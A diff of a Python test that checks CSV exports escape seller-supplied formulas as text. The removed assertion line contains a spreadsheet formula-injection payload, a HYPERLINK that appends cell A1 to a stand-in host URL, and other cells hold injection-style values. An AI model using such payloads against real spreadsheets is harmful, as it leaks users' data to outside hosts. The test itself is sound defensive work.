@@ -318,7 +318,7 @@ def test_a_sellers_formula_reaches_the_spreadsheet_as_text_and_a_retry_as_it_was
         with open(out / name, newline="", encoding="utf-8") as fh:
             cells[name] = [c for row in csv.reader(fh) for c in row]
         assert not [c for c in cells[name] if c[:1] in ("=", "+", "@", "\t") or re.match(r"-[^\d]", c)], name
-    assert {"'@lot-1", "'=3", "'=HYPERLINK(\"http://x.test/?\"&A1,\"more\")", "-2", "-5", "-"} <= set(cells["results.csv"])
+    assert {"'@lot-1", "'=3", "'" + given["title"][0], "-2", "-5", "-"} <= set(cells["results.csv"])
     assert {"'=3", "'+44 20 7946 0000", "'\t=1+1"} <= set(cells["errors.csv"])
     assert "'@lot-1" in cells["queue.csv"] and "'@lot-1" in cells["listings.csv"]
     records = read_evidence(out / "evidence.jsonl")
